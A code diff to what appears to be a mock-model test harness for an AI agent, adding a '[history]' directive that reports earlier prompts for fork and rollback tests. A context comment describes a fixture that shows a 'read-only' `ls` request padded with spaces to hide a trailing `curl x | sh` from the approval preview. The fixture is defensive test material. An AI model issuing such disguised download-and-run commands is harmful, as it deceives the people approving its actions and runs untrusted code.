@@ -21,6 +21,10 @@
  *   [askpadded N]     like [ask bash], titled "List files (read-only)", for the command `ls` padded
  *                     with N spaces before `&& curl x | sh` (a request whose input hides its tail
  *                     past any preview; N at most 1 MiB)
+ *   [history]         answer `history: <JSON list>` of what this agent conversation held before
+ *                     the prompt: each earlier prompt, or `recap: <text>` for a carried history
+ *                     (fork and rollback, docs/api.md); `history: unknown` when this process never
+ *                     saw the conversation (another instance ran it)
  *
  * Text outside directives is ignored; a prompt without directives gets one short answer.
  *
@@ -42,9 +46,11 @@ export type Directive =
   | { kind: "hang" }
   | { kind: "stubborn" }
   | { kind: "ask"; name: string }
-  | { kind: "askpadded"; spaces: number };
+  | { kind: "askpadded"; spaces: number }
+  /** Reply with what the agent's conversation holds before this prompt (fork and rollback tests). */
+  | { kind: "history" };
 
-const pattern = /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|askpadded|ask)(?:\s+([A-Za-z0-9_]+))?\]/g;
+const pattern = /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|askpadded|ask|history)(?:\s+([A-Za-z0-9_]+))?\]/g;
 
 const MAX_NUMBER = 100_000_000;
 
@@ -89,7 +95,7 @@ export function parseDirectives(prompt: string): Directive[] {
         directives.push({ kind, spaces: Math.min(n, simulatedLimits.maxBytes) });
         break;
       default:
-        directives.push({ kind: kind as "clock" | "crash" | "hang" | "stubborn" });
+        directives.push({ kind: kind as "clock" | "crash" | "hang" | "stubborn" | "history" });
     }
   }
   return directives;
